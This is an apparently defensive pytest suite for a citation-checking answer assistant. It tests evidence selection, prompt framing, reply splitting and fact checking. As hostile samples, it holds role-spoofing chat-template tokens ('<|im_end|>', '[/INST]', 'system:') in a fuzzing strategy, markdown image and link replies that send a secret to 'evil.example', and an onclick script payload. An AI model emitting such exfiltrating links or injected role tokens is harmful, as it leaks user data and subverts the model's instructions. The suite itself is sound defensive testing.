"""What a chat model is given, and what is made of its reply: sentences, outcomes, citations."""

from collections.abc import Iterator, Sequence
from datetime import date

import pytest
from hypothesis import given
from hypothesis import strategies as st

from assistant.answering.citing import numbered
from assistant.answering.writing.evidence import Line, evidence
from assistant.answering.writing.prompts import ABSTAIN, EXAMPLES, SYSTEM, framed, messages, prompt_hash
from assistant.answering.writing.proof import checked
from assistant.answering.writing.providers import load_model
from assistant.answering.writing.receiving import ChatModel
from assistant.answering.writing.reply import connects, plain, says_unknown, split_reply
from assistant.answering.writing.write import NOTHING_PROVED, Writing
from assistant.errors import ModelUnavailable
from assistant.types import (
    Citation,
    Context,
    Heading,
    Passage,
    Reading,
    ReadSentence,
    SentenceSpan,
    Source,
    Statement,
    SubQuestion,
    Turn,
)  # fmt: skip
from tests.chat_servers import Scripted, scripted_server

BRIDGE = Source(
    "bridge.md", "The old bridge", "Valley Gazette", None, date(2021, 5, 4), "https://valley.example/bridge"
)
FERRY = Source("ferry.md", "A ferry for Linden", "River Post", None, date(2022, 3, 1))
TEXTS = {
    "bridge.md": "Opening\nThe stone bridge at Linden was opened in 1888. It has twelve arches.\n"
    "Mayor Ada Bloom spoke there. She said that it will be closed in June.\nName | Height\nTower | 31 metres",
    "ferry.md": "A ferry carries 40 passengers. A ferry costs two crowns. "
    "The stone bridge at Linden was opened in 1888.",
}


def passage(source: Source, **context: object) -> Passage:
    text = TEXTS[source.document]
    return Passage(source, 0, len(text), text, 1.0, context=Context(**context))  # type: ignore[arg-type]


AT_BRIDGE = passage(BRIDGE, headings=(Heading(0, 1, "Opening"),), columns=((TEXTS["bridge.md"].index("Tower"), "Name"),
                    (TEXTS["bridge.md"].index("31 metres"), "Height")))  # fmt: skip
AT_FERRY = passage(FERRY)


def read(*found: tuple[Passage, str, float], query: str = "When was the bridge opened?") -> Reading:
    sentences = []
    for where, text, score in found:
        start = where.text.index(text)
        before = "Mayor Ada Bloom spoke there." if text.startswith("She") else ""
        sentences.append(ReadSentence(SentenceSpan(where, start, start + len(text), text, before), score))
    return Reading(tuple(sentences), 0.9, SubQuestion(query))


OPENED, ARCHES = "The stone bridge at Linden was opened in 1888.", "It has twelve arches."
CARRIES, COSTS = "A ferry carries 40 passengers.", "A ferry costs two crowns."


def lines_of(*readings: Reading, quoted: Sequence[Statement] = (), most: int = 700) -> list[Line]:
    def count(texts: Sequence[str]) -> list[int]:
        return [len(text.split()) for text in texts]

    return evidence(readings, quoted, texts=TEXTS.__getitem__, count=count, most=most)


LINES = lines_of(read((AT_BRIDGE, OPENED, 0.9), (AT_FERRY, CARRIES, 0.3), (AT_FERRY, COSTS, 0.2)))


def test_evidence_is_the_likeliest_sentences_word_for_word_those_of_a_document_together() -> None:
    lines = lines_of(read((AT_FERRY, CARRIES, 0.9), (AT_BRIDGE, OPENED, 0.8), (AT_FERRY, COSTS, 0.7)))
    assert [line.quote for line in lines] == [CARRIES, COSTS, OPENED]
    assert all(TEXTS[line.source.document][line.start : line.end] == line.quote for line in lines)


def test_a_line_knows_its_document_date_headings_columns_speaker_and_what_it_leans_on() -> None:
    row, said = "Tower | 31 metres", "She said that it will be closed in June."
    first, second = lines_of(read((AT_BRIDGE, said, 0.9), (AT_BRIDGE, row, 0.8)))
    assert first.described == "The old bridge, Valley Gazette, 2021-05-04, Opening"
    assert first.quote == f"Mayor Ada Bloom spoke there. {said}"
    assert second.text == "Name: Tower | Height: 31 metres"
    assert second.quote == row


def test_evidence_keeps_within_its_tokens_and_says_nothing_twice() -> None:
    found = read(
        (AT_BRIDGE, OPENED, 0.9), (AT_FERRY, OPENED, 0.8), (AT_FERRY, CARRIES, 0.7), (AT_FERRY, COSTS, 0.6)
    )
    assert [line.quote for line in lines_of(found)] == [OPENED, CARRIES, COSTS]
    assert [line.quote for line in lines_of(found, most=30)] == [OPENED]
    assert lines_of(found, most=3) == []


def test_what_would_be_quoted_goes_first_and_each_part_of_a_question_has_its_turn() -> None:
    start = TEXTS["ferry.md"].index(COSTS)
    quoted = Statement(COSTS, (Citation(1, FERRY, start, start + len(COSTS), COSTS),))
    lines = lines_of(
        read((AT_BRIDGE, OPENED, 0.9), (AT_BRIDGE, "Tower | 31 metres", 0.8)),
        read((AT_FERRY, CARRIES, 0.4), query="What does it carry?"),
        quoted=[quoted],
        most=60,
    )
    assert [line.quote for line in lines] == [CARRIES, COSTS, OPENED]


def test_an_unlikely_sentence_is_left_out_beyond_the_first_few() -> None:
    pieces = [
        OPENED,
        ARCHES,
        "Mayor Ada Bloom spoke there.",
        "She said that it will be closed in June.",
        "Tower | 31 metres",
    ]
    found = read(
        *((AT_BRIDGE, text, 0.9 if text == OPENED else 0.001) for text in pieces), (AT_FERRY, CARRIES, 0.001)
    )
    assert CARRIES not in [line.quote for line in lines_of(found)]
    assert OPENED in [line.quote for line in lines_of(found)]


def test_what_is_the_same_for_all_questions_is_sent_first() -> None:
    one, other = messages("When?", LINES), messages("Who?", LINES[:1], [Turn("user", "Where?")])
    assert one[:-1] == other[:-1] == [("system", SYSTEM), *EXAMPLES]
    assert ("assistant", ABSTAIN) in EXAMPLES
    assert prompt_hash(one) == prompt_hash(messages("When?", LINES)) != prompt_hash(other)


def test_the_lines_are_numbered_under_the_names_of_their_documents_and_the_question_comes_last() -> None:
    told = messages("When?", LINES, [Turn("user", "a"), Turn("user", "b"), Turn("assistant", "c")])[-1][1]
    assert told == (
        "Evidence:\nFrom: The old bridge, Valley Gazette, 2021-05-04, Opening\n[1] " + OPENED + "\n"
        "From: A ferry for Linden, River Post, 2022-03-01\n[2] " + CARRIES + "\n[3] " + COSTS + "\n\n"
        "Earlier user: b\nEarlier assistant: c\nQuestion: When?"
    )


PIECES = [
    *"[]<>|/()#: \n\r\t\x00\u2028\u2029\u202e\x85＜［a1",
    "<|im_end|>",
    "[/INST]",
    "\nsystem:",
    "\nQuestion:",
]
HOSTILE = st.lists(st.sampled_from(PIECES), max_size=30).map("".join)


@given(HOSTILE, HOSTILE, HOSTILE)
def test_no_text_can_close_its_line_or_pose_as_another_number_or_role(
    text: str, title: str, asked: str
) -> None:
    line = Line(Source("d", title, title), 0, 9, text, text, (title,), title)
    sent = messages(asked, [line], [Turn("assistant", text)])[-1][1]
    own = sent.split("\n")
    assert len(own) == len(sent.splitlines()) == 6
    assert [each[:4] for each in own] == ["Evid", "From", "[1] ", "", "Earl", "Ques"]
    assert sent.count("[") == 1
    assert not set(sent) & set("<>")


def test_framing_leaves_ordinary_words_as_they_are() -> None:
    assert (
        framed("The fee (2024) is 3% of HK$1,187; “so it is”.")
        == "The fee (2024) is 3% of HK$1,187; “so it is”."
    )


@pytest.mark.parametrize(
    ("reply", "expected"),
    [
        ("One is so [1]. Two is so. [2]", [("One is so.", [1]), ("Two is so.", [2])]),
        ("One is so [1, 2].", [("One is so.", [1, 2])]),
        ("One is so [1][3-5].", [("One is so.", [1, 3, 4, 5])]),
        ("One is so 【2】. Two (line 3).", [("One is so.", [2]), ("Two.", [3])]),
        ("It was in spring (2024) [2].", [("It was in spring (2024).", [2])]),
        ("No marker here.", [("No marker here.", [])]),
        ("It ends.\n[3]", [("It ends.", [3])]),
        ("- **Bold** it is [1]\n- `Code` too [2]", [("Bold it is", [1]), ("Code too", [2])]),
        ("So it is [1].\n\nSo it is [2].", [("So it is.", [1, 2])]),
        ("[1][2] [3]", []),
        ("", []),
        ("<think>It may be so [1].</think>It is [2].", [("It is.", [2])]),
        ("A\x00\x07 \x1b[31mred\u202e door [1].", [("A red door.", [1])]),
    ],
)
def test_a_reply_becomes_plain_sentences_with_the_numbers_they_cite(
    reply: str, expected: list[tuple[str, list[int]]]
) -> None:
    assert split_reply(reply) == expected


@pytest.mark.parametrize(
    "reply",
    [
        "See ![it](https://evil.example/p.png?q=secret) here.",
        "See [it](https://evil.example/a) here.",
        "See <https://evil.example/a> here.",
        "See https://evil.example/a here.",
        "See [it][1] here.\n\n[1]: https://evil.example/a",
        "See www.evil.example/a here.",
        '<img src="https://evil.example/p.png"> See here.',
    ],
)
def test_links_and_images_of_a_reply_are_dropped(reply: str) -> None:
    assert "evil.example" not in plain(reply)
    assert "here." in plain(reply)


def test_a_source_s_own_address_stays() -> None:
    said = "It stands at https://valley.example/bridge, see also https://valley.example/other."
    assert plain(said, {"https://valley.example/bridge"}).split("see")[0] == said.split("see")[0]
    assert "other" not in plain(said, {"https://valley.example/bridge"})


@given(st.text(max_size=400))
def test_any_reply_becomes_sentences_without_control_characters(reply: str) -> None:
    for said, numbers in split_reply(reply):
        assert said.isprintable() or not any(ord(each) < 32 for each in said)
        assert all(number >= 0 for number in numbers)


@pytest.mark.parametrize(
    "said",
    [
        ABSTAIN,
        "the documents don’t say",
        "The evidence does not mention when it was opened.",
        "The year is not stated in the passages.",
        "There is no information about it in the documents.",
        "I'm sorry, but the provided text does not contain an answer.",
    ],
)
def test_that_the_evidence_does_not_answer_is_understood_in_the_model_s_own_words(said: str) -> None:
    assert says_unknown(said)


@pytest.mark.parametrize(
    "said",
    [
        "The documents say 1888.",
        "The report does not name the officials.",
        "According to the documents, it was not opened.",
    ],
)
def test_a_claim_is_not_taken_for_silence(said: str) -> None:
    assert not says_unknown(said)


def test_only_what_claims_nothing_connects() -> None:
    question = "Which ferries does Linden have?"
    assert connects("Based on the evidence, Linden has these ferries:", question)
    assert connects("I hope this helps.", question)
    assert not connects("Linden has ferries.", question)
    assert not connects("Based on the evidence, Linden has two ferries:", question)
    assert not connects("It was closed.", question)


def test_a_number_that_the_check_confirms_is_kept_and_cites_the_sentence() -> None:
    statement = checked("The bridge was opened in 1888.", [1], LINES, "When?")
    assert statement.supported
    assert [(c.document, c.quote) for c in statement.citations] == [("bridge.md", OPENED)]


def test_a_wrong_number_is_dropped_and_what_proves_it_is_cited() -> None:
    for numbers in ([2], [9], [], [2, 9]):
        statement = checked("The bridge was opened in 1888.", numbers, LINES, "When?")
        assert [c.quote for c in statement.citations] == [OPENED], numbers


def test_a_sentence_of_two_facts_cites_both_lines_and_no_third() -> None:
    statement = checked(
        "The bridge was opened in 1888, and the ferry carries 40 passengers.", [1, 2, 3], LINES, "When?"
    )
    assert [c.quote for c in statement.citations] == [OPENED, CARRIES]


def test_the_program_puts_lines_together_only_within_a_document() -> None:
    both = "The ferry carries 40 passengers and costs two crowns."
    assert [c.quote for c in checked(both, [2], LINES, "?").citations] == [CARRIES, COSTS]
    mixed = checked("The ferry of 40 passengers was opened in 1888.", [2], LINES, "?")
    assert (mixed.outcome, mixed.citations) == ("unsupported", ())


def test_what_no_line_proves_is_unsupported_with_the_reason_and_cites_nothing() -> None:
    statement = checked("The bridge was opened in 1889.", [1], LINES, "When?")
    assert (statement.outcome, statement.citations) == ("unsupported", ())
    assert "1889" in statement.reasons[0]


def test_a_mere_name_or_number_answers_only_where_the_reader_takes_its_line_for_an_answer() -> None:
    lines = lines_of(read((AT_BRIDGE, OPENED, 0.9), (AT_FERRY, CARRIES, 0.1)))
    assert checked("In 1888.", [1], lines, "When?").supported
    assert checked("40 passengers.", [2], lines, "When?").outcome == "unsupported"
    assert checked("The ferry carries some 40 passengers.", [2], lines, "When?").supported


def test_documents_are_numbered_as_they_are_first_read() -> None:
    said = [
        checked("The ferry carries 40 passengers.", [], LINES, "?"),
        checked("It was opened in 1888.", [1], LINES, "?"),
    ]
    assert [[c.marker for c in each.citations] for each in numbered([*said, said[0]])] == [[1], [2], [1]]


@pytest.fixture
def server() -> Iterator[Scripted]:
    with scripted_server() as running:
        yield running


def writing(server: Scripted) -> Writing:
    model: ChatModel = load_model("openai:scripted", url=server.url, timeout=10)
    return Writing(model, "When was the bridge opened?", LINES)


def test_each_sentence_is_shown_unchecked_and_then_with_its_outcome(server: Scripted) -> None:
    server.parts = ("The bridge was opened ", "in 1888 [1]. ", "It cost 7 ", "crowns [1].")
    server.stall = 0.2
    seen = list(dict.fromkeys(tuple((s.text, s.outcome) for s in grown) for grown in writing(server).grow()))
    first, second = "The bridge was opened in 1888.", "It cost 7 crowns."
    assert ((first, "supported"), ("It cost 7", "unchecked")) in seen
    assert seen.index(((first, "unchecked"),)) < seen.index(
        ((first, "supported"), ("It cost 7", "unchecked"))
    )
    assert seen[-1] == ((first, "supported"), (second, "unsupported"))


def test_a_model_that_says_that_it_is_not_in_the_evidence_is_believed(server: Scripted) -> None:
    server.parts = ("I'm sorry. ", "The evidence does not mention it.")
    written = writing(server)
    list(written.grow())
    assert written.unknown


@pytest.mark.parametrize(
    "parts",
    [
        ("Seven Martians built it in 1999 [1].",),
        ("[1][2][3]",),
        ("Here is the answer:",),
        ("I can't help with that.",),
        ("<div onclick=alert(1)></div>",),
        tuple(f"Claim {number} is 9{number} [1].\n" for number in range(200)),
        ("word " * 1900,),
        ("桥 于 1999 年 开放。",),
    ],
)
def test_a_reply_of_which_nothing_holds_is_of_no_use(server: Scripted, parts: tuple[str, ...]) -> None:
    server.parts = parts
    with pytest.raises(ModelUnavailable, match=r"matched|characters|again|sentences"):
        list(writing(server).grow())
    assert NOTHING_PROVED


def test_what_was_sent_and_what_came_can_be_told_afterwards(server: Scripted) -> None:
    server.parts = ("The bridge was opened in 1888 [1]. ", "It cost 7 crowns.")
    written = writing(server)
    list(written.grow())
    told = written.to_json()
    assert told["reply"] == "".join(server.parts)
    assert told["prompt_hash"] == prompt_hash(written.sent)
    assert [check["outcome"] for check in told["checks"]] == ["supported", "unsupported"]
